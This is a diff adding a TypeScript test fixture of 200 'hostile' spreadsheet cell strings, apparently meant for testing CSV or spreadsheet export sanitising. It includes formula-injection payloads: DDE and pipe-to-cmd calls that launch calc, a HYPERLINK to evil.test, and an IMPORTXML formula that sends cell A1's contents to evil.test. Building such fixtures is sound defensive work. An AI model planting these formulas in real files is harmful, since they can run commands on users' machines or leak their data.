@@ -1,0 +1,50 @@
+const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', "'", '＝', '＋', '－', '＠', ' =', '|', '%', ';='];
+const REST = [
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://evil.test","Click")',
+  'SUM(A1:A9)*2',
+  'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
+  'DDE("cmd","/C calc","x")',
+  '12.5',
+  '12,50',
+  'Jean "Ti Jo" Pierre',
+  'a,b;c\td',
+  'two\nlines',
+];
+const OTHERS = [
+  "''@x",
+  '-',
+  ' ',
+  '\\.',
+  '\\N',
+  '\\n',
+  'NULL',
+  '"',
+  '""',
+  '","',
+  '"quoted", with; and\nlines\r\n',
+  'Ünïcödé ñ É à ç ò è',
+  '漢字 🚗',
+  '\u202eright to left',
+  '\ufeffmark',
+  '<b>&amp;</b> ]]>',
+  '</t></is></c><c r="A1"><f>1+1</f></c>',
+  '\u0001\u001f\ufffe control',
+  '_x0041_ &#65;',
+  '{"a":1}',
+  '1E309',
+  '0123456789012345678',
+  'TRUE',
+  '#REF!',
+  '1/2',
+  '2026-11-23',
+  "O'Brien",
+  'x'.repeat(4000),
+];
+
+/** 200 texts that a spreadsheet, a parser or a reader of a file may take for something else. */
+export const HOSTILE_CELLS: readonly string[] = [
+  ...OTHERS,
+  ...STARTS.flatMap((start) => REST.map((rest) => `${start}${rest}`)),
+].slice(0, 200);
